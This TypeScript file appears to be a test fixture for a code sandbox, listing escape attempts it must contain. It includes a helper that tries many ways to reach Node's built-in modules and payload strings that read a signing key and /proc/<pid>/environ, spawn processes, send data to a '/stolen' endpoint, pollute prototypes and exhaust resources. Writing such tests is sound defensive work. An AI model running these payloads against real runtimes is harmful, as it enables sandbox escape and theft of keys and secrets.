/** What a trick is after; none of it may be found in what comes of it. */
export interface Target {
  /** File of the signing key. */
  key: string;
  /** Process that starts the isolated one. */
  parent: number;
  /** Address that a trick calls. */
  origin: string;
  /** File that a trick makes. */
  file: string;
}

export interface Trick {
  name: string;
  /** Body of an async function of the remote's page. What it finds it throws, so that a finding is seen. */
  code(target: Target): string;
  /**
   * What becomes of its page: `none` where the build is refused at publish, and the area left to the browser
   * when live; `either` where the trick may break its own page.
   */
  page: 'shown' | 'none' | 'either';
}

/** Every way to one of Node's modules that we know of. */
export const REACH = `
const { useState } = require('react');
async function reach(name) {
  const ways = [
    () => require(name), () => require('node:' + name), () => globalThis[name],
    () => process.getBuiltinModule(name), () => process.binding(name), () => process.mainModule.require(name),
    () => module.constructor._load(name), () => module.parent.require(name), () => globalThis.require(name),
    () => useState.constructor('return process')().getBuiltinModule(name),
    () => (0, eval)('process').getBuiltinModule(name),
    () => import('node:' + name),
    () => setTimeout.constructor.constructor('return this')().require(name),
    () => { Error.prepareStackTrace = (_, sites) => sites; const sites = new Error().stack; delete Error.prepareStackTrace;
      for (const site of sites) { const self = site.getThis?.(); if (self?.require) return self.require(name); const f = site.getFunction?.(); if (f) return f.constructor('return process')().getBuiltinModule(name); } },
  ];
  for (const way of ways) { try { const found = await way(); if (found) return found; } catch {} }
  return null;
}
`;

const text = (value: string): string => JSON.stringify(value);

export const TRICKS: readonly Trick[] = [
  {
    name: 'reads the signing key and leaves a file behind',
    code: ({ key, file }) => `const fs = await reach('fs');
      fs?.writeFileSync(${text(file)}, '1');
      throw new Error(fs ? fs.readFileSync(${text(key)}, 'utf8') : 'no files');`,
    page: 'none',
  },
  {
    name: "reads its environment and its parent's",
    code: ({ parent }) => `const fs = await reach('fs');
      throw new Error(JSON.stringify(process.env) + (fs ? fs.readFileSync('/proc/${parent}/environ', 'utf8') : ''));`,
    page: 'none',
  },
  {
    name: 'starts a process',
    code: ({ file }) => `(await reach('child_process'))?.execFileSync('/bin/touch', [${text(file)}]);
      process.binding('spawn_sync').spawn({ file: '/bin/touch', args: ['touch', ${text(file)}] });`,
    page: 'none',
  },
  {
    name: 'connects to this machine',
    code: ({ origin }) => `await globalThis.fetch?.(${text(`${origin}/stolen`)}).catch(() => undefined);
      for (const name of ['http', 'https', 'net', 'undici']) {
        const found = await reach(name);
        if (found?.get) await new Promise((done) => found.get(${text(`${origin}/stolen`)}, done).on('error', done));
      }
      throw new Error('no network');`,
    page: 'none',
  },
  {
    name: 'changes prototypes for all that comes after it',
    code: () => `Object.prototype.isSpoilt = true;
      Array.prototype.map = () => ['spoilt'];
      Object.defineProperty(Object.prototype, 'remote', { get: () => 'staff', configurable: true });
      return 'spoilt';`,
    page: 'either',
  },
  { name: 'never ends', code: () => 'for (;;);', page: 'none' },
  {
    name: 'fills the memory',
    code: () => `const all = [];
      for (;;) { all.push(Buffer.alloc(2e7, 1)); await new Promise((done) => setTimeout(done, 5)); }`,
    page: 'none',
  },
  {
    name: 'patches globals',
    code: () => `JSON.stringify = () => '"spoilt"'; JSON.parse = () => ({ kind: 'page' });
      Date.now = () => 0; globalThis.Promise.resolve = () => 'spoilt'; globalThis.URL = class {};
      return 'spoilt';`,
    page: 'either',
  },
  {
    name: 'leaves timers behind that call for later visitors',
    code: ({ origin }) =>
      `setInterval(() => void globalThis.fetch?.(${text(`${origin}/late`)}), 5); return 'shown';`,
    page: 'shown',
  },
  {
    name: 'rejects without a listener',
    code: () => `void Promise.reject(new Error('unheard')); return 'shown';`,
    page: 'shown',
  },
  { name: 'ends its process', code: () => `process.exit(0); return 'shown';`, page: 'none' },
  { name: 'sends too much', code: () => `return 'x'.repeat(4e7);`, page: 'none' },
];
